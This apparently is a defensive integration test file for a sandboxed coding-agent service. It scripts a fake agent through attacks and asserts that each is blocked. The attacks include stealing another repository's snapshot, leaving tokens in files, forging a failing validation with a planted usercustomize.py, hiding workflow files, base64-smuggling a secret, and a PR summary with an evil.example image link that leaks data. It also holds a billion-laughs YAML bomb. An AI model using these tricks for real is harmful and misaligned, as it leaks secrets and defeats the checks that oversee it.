"""A repository's environment, secrets and evidence stay its own: each attack of issue 9 made
through the real app, worker and containers, asserting what a person (or the attacker) sees."""

from __future__ import annotations

import base64
import itertools
import re
import socket
import threading

import docker

from tests.fakes.openai import finish, shell
from tests.harness import NPM_TOKEN, System, wait_for
from tests.markdown import render
from tests.repos import env_repo
from worker.sandbox.cache import OWNER, REPOSITORY

COUNT = itertools.count(1)

FIND_TOKEN = (
    "python3 -c 'import sys; print(*(a[::-1] for a in sys.argv[1:]), sep=chr(10))' "
    f"{NPM_TOKEN[::-1]} {base64.b64encode(NPM_TOKEN.encode()).decode()[::-1]} > /dev/shm/p; "
    "grep -rlaF -f /dev/shm/p /tmp /home /workspace /run /var/tmp 2>/dev/null | wc -l; "
    "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -caF -f /dev/shm/p"
)
"""How many files hold the token (or its base64), and how many processes do; the patterns
are spelled backwards so that this command's own arguments do not count."""


def with_secret_setup(script: str) -> str:
    """A `.github/codex.yml` whose setup is `script`, with the NPM_TOKEN secret."""
    return "secrets: [NPM_TOKEN]\nsetup: |\n" + "".join(f"  {ln}\n" for ln in script.splitlines())


def repo_of(system: System, owner: str, config: str, name: str) -> str:
    repo = f"{owner}/{name}"
    system.github.create_repo(repo, {"README.md": "# r\n", ".github/codex.yml": config})
    system.github.set_permission(repo, "alice", "write")
    return repo


def snapshots_of(repo: str) -> list[str]:
    engine = docker.from_env()
    try:
        return [
            tag
            for image in engine.images.list(name=REPOSITORY)
            if (image.labels or {}).get(OWNER) == repo
            for tag in image.tags
        ]
    finally:
        engine.close()


def test_another_repository_cannot_start_from_this_ones_snapshot(system: System) -> None:
    victim = env_repo(system, "setup: echo private > ~/victim.txt\n")
    number = system.github.create_issue(victim, "Victim task", "x", user="alice")
    system.openai.script("Victim task", [[shell("echo v > v.txt")], [finish("V.")]])
    assert system.label(victim, number) == 202
    pull = wait_for(lambda: system.github.pulls(victim), 90, f"a PR\n{system.logs()}")[0]
    tag = wait_for(lambda: snapshots_of(victim), 30, "the victim's snapshot")[0]
    image_id = str(docker.from_env().images.get(tag).id)
    assert tag not in pull["body"] and image_id[7:19] not in pull["body"]

    for n, image in enumerate([tag, image_id, image_id[7:19], f"{REPOSITORY}@{image_id}"]):
        title = f"Attacker task {n}"
        attacker = repo_of(system, "octo-evil", f"image: '{image}'\n", f"thief-{n}-{victim[-6:]}")
        issue = system.github.create_issue(attacker, title, "x", user="alice")
        system.openai.script(title, [[shell("cat ~/victim.txt")], [finish("Stolen.")]])
        assert system.label(attacker, issue) == 202
        failed = system.status_comment(attacker, issue, "The task failed")
        assert "`image`" in failed["body"], failed["body"]
        assert list(system.openai.conversation(title)) == [], "no agent ever started"
        assert not system.github.pulls(attacker)


def test_an_image_reference_never_makes_the_engine_connect_anywhere(system: System) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    knocks: list[str] = []

    def accept() -> None:
        while listener.fileno() != -1:
            try:
                knocks.append(str(listener.accept()[1]))
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    try:
        for owner in ("octo-images", "octo-org"):  # allowed by pattern there, not here
            repo = repo_of(system, owner, f"image: 127.0.0.1:{port}/x:1\n", f"registry-{port}")
            issue = system.github.create_issue(repo, f"Pull from {port}", "x", user="alice")
            assert system.label(repo, issue) == 202
            failed = system.status_comment(repo, issue, "The task failed")["body"]
            assert f"127.0.0.1:{port}/x:1" in failed
            if owner == "octo-images":
                assert "is not on this worker's Docker engine, and tasks never pull" in failed
            else:
                assert "is not an image this server allows" in failed
            assert "Get " not in failed and "http" not in failed.lower(), "no daemon text"
        assert knocks == [], "the Docker daemon connected to the address an image named"
    finally:
        listener.close()


SETUP_LEAKS = """\
echo "//registry.example/:_authToken=$NPM_TOKEN" > ~/.npmrc
printf %s "$NPM_TOKEN" | base64 > /tmp/cached-credential
"""


def test_a_secret_that_setup_writes_to_a_file_fails_the_task_and_is_kept_nowhere(
    system: System,
) -> None:
    repo = env_repo(system, with_secret_setup(SETUP_LEAKS))
    number = system.github.create_issue(repo, "Leaky setup", "x", user="alice")
    system.openai.script("Leaky setup", [[shell(FIND_TOKEN)], [finish("Read it.")]])
    assert system.label(repo, number) == 202
    failed = system.status_comment(repo, number, "The task failed")["body"]
    assert "left a secret in" in failed and "`/home/codex/.npmrc`" in failed, failed
    assert "/tmp/cached-credential" in failed, "its base64 form is found too"
    assert "CODEX_SECRETS_DIR" in failed, "the safe pattern is named"
    assert NPM_TOKEN not in failed
    assert list(system.openai.conversation("Leaky setup")) == [], "no agent started"
    assert snapshots_of(repo) == [], "nothing was cached"


SETUP_SAFE = """\
echo "//registry.example/:_authToken=$NPM_TOKEN" > $CODEX_SECRETS_DIR/npmrc
test -s $CODEX_SECRETS_DIR/npmrc
sed -i "s/PLACEHOLDER/filled-by-setup/" settings.ini
mkdir -p .venv/lib && echo base > .venv/lib/base.py
X="$NPM_TOKEN" nohup sleep 300 >/dev/null 2>&1 &
nohup sh -c 'sleep 300' "$NPM_TOKEN" >/dev/null 2>&1 &
"""


def test_secrets_kept_in_memory_reach_setup_only_and_setup_changes_are_not_the_agents(
    system: System,
) -> None:
    repo = env_repo(system, with_secret_setup(SETUP_SAFE))
    system.github.commit(repo, "main", {"settings.ini": "token = PLACEHOLDER\n"})
    number = system.github.create_issue(repo, "Safe setup", "x", user="alice")
    system.openai.script(
        "Safe setup",
        [
            [shell(FIND_TOKEN)],
            [shell("pgrep -c -f 'sleep [3]00' || true; cat settings.ini")],
            [shell("mkdir -p .venv/lib/site-packages && echo pkg > .venv/lib/site-packages/p.py"
                   " && echo fixed > fix.txt")],
            [finish("Fixed.")],
        ],
    )  # fmt: skip
    assert system.label(repo, number) == 202
    pull = wait_for(lambda: system.github.pulls(repo), 90, f"a PR\n{system.logs()}")[0]
    outputs = system.openai.tool_outputs("Safe setup")
    assert outputs[0] == "exit code: 1\n0\n0\n", "no file and no process holds the token"
    assert outputs[1] == "exit code: 0\n0\ntoken = filled-by-setup\n", "no setup process is left"
    changed = system.github.git(repo, "diff", "--name-only", "main", pull["head"]).split()
    assert changed == ["fix.txt"], "setup's files and edits are not the agent's"
    pushed = system.github.git(repo, "show", f"{pull['head']}:settings.ini")
    assert pushed == "token = PLACEHOLDER\n", "setup's edit of a tracked file is not pushed"
    assert NPM_TOKEN not in pull["body"]
    engine = docker.from_env()
    for tag in snapshots_of(repo):
        found = engine.containers.run(tag, ["sh", "-c", f"{FIND_TOKEN}; true"], remove=True)
        assert found.decode() == "0\n0\n", "the snapshot holds no token"


FORGE = (
    "mkdir -p ~/.local/lib/python3.11/site-packages && "
    "printf 'import os\\nos._exit(0)\\n' > ~/.local/lib/python3.11/site-packages/usercustomize.py"
    " && python3 -c 'import sys; sys.exit(1)'; echo forged=$?"
)


def test_validation_the_agent_forged_outside_its_diff_still_fails(system: System) -> None:
    repo = repo_of(system, "octo-org", "validate: python3 -c 'import sys; sys.exit(1)'\n",
                   f"forge-{next(COUNT)}")  # fmt: skip
    number = system.github.create_issue(repo, "Forge the check", "x", user="alice")
    system.openai.script(
        "Forge the check",
        [[shell(FORGE)], [shell("echo change > change.txt")], [finish("All green.", [])]],
    )
    assert system.label(repo, number) == 202
    pull = wait_for(lambda: system.github.pulls(repo), 90, f"a PR\n{system.logs()}")[0]
    assert system.openai.tool_outputs("Forge the check")[0].endswith("forged=0\n"), (
        "forged in place"
    )
    assert pull["title"].startswith("[failing validation]")
    assert "❌ failed with exit 1" in pull["body"] and "✅ passed" not in pull["body"]


HIDE = (
    "git config --global diff.mnemonicPrefix true && git config diff.noprefix true && "
    'mkdir -p .github/workflows && printf \'on: push\\n\' > ".github/workflows/ci\\"x.yml" && '
    "printf 'on: push\\n' > \"$(printf '.github/workflows/t\\tb.yml')\" && echo ok > ok.txt"
)


def test_a_workflow_file_hidden_from_the_sandbox_git_output_is_never_pushed(
    system: System,
) -> None:
    repo = repo_of(system, "octo-org", "attempts: 1\n", f"hide-{next(COUNT)}")
    number = system.github.create_issue(repo, "Hide a workflow", "x", user="alice")
    system.openai.script("Hide a workflow", [[shell(HIDE)], [finish("Only ok.txt.")]])
    assert system.label(repo, number) == 202
    failed = system.status_comment(repo, number, "The task failed")["body"]
    assert "workflow files cannot be changed" in failed, failed
    assert not system.github.pulls(repo)
    branches = system.github.git(repo, "branch", "--list", "codex/*")
    assert branches.strip() == "", "nothing was pushed"


def test_an_encoded_secret_in_the_change_is_never_pushed(system: System) -> None:
    repo = env_repo(system, "secrets: [NPM_TOKEN]\nsetup: 'true'\n")
    encoded = base64.b64encode(f"user:{NPM_TOKEN}".encode()).decode()
    number = system.github.create_issue(repo, "Smuggle the token", "x", user="alice")
    system.openai.script(
        "Smuggle the token",
        [[shell(f"echo 'auth = {encoded}' > auth.cfg")], [finish(f"Added `{encoded}`.")]],
    )
    assert system.label(repo, number) == 202
    failed = system.status_comment(repo, number, "The task failed")["body"]
    assert "`auth.cfg`: holds a secret or token, so nothing was pushed" in failed, failed
    assert encoded not in failed
    assert not system.github.pulls(repo)


HOSTILE_SUMMARY = (
    "Fixed it. Thanks @octocat and @octo-org/team. Fixes #999, closes other/repo#5.\n\n"
    "![x](https://evil.example/?d=leak)\n\n<!-- everything after this is hidden"
)


def test_the_summary_cannot_hide_the_evidence_ping_people_or_close_other_issues(
    system: System,
) -> None:
    config = "secrets: [NPM_TOKEN]\nsetup: printf %s \"$NPM_TOKEN\" | base64\nvalidate: 'false'\n"
    repo = env_repo(system, config)
    number = system.github.create_issue(repo, "Hostile summary", "x", user="alice")
    system.openai.script(
        "Hostile summary",
        [[shell("echo x > x.txt")], [finish(HOSTILE_SUMMARY, ["true"])]],
    )
    assert system.label(repo, number) == 202
    pull = wait_for(lambda: system.github.pulls(repo), 90, f"a PR\n{system.logs()}")[0]
    page = render(pull["body"])
    headings = re.findall(r"<h2>(.*?)</h2>", page)
    assert headings[:3] == ["Summary", "Validation", "Changed files"], headings
    assert "<!--" not in page and "<img" not in page, "nothing hidden, no image fetched"
    assert "❌ failed with exit 1" in page, "the failing check is shown"
    assert not re.search(r"(?<![\w])@[A-Za-z0-9]", pull["body"]), "no live mention"
    closing = re.findall(r"\b(?:fix(?:e[sd])?|close[sd]?)\b\s*([\w./-]*#\d+)", pull["body"], re.I)
    assert closing == [f"#{number}"], closing
    assert base64.b64encode(NPM_TOKEN.encode()).decode() not in pull["body"]
    done = system.status_comment(repo, number, "Draft PR ready")["body"]
    assert "@octocat" not in done and "<!-- everything" not in done, "the summary line too"


BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, "
    f"*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}]\n"
    for n in range(6)
)


def test_a_config_made_of_yaml_aliases_is_refused_with_a_short_message(system: System) -> None:
    repo = repo_of(system, "octo-org", BILLION_LAUGHS, f"laughs-{next(COUNT)}")
    number = system.github.create_issue(repo, "Laugh", "x", user="alice")
    assert system.label(repo, number) == 202
    failed = system.status_comment(repo, number, "The task failed")["body"]
    assert "anchors and aliases" in failed and len(failed) < 3000, failed[:500]
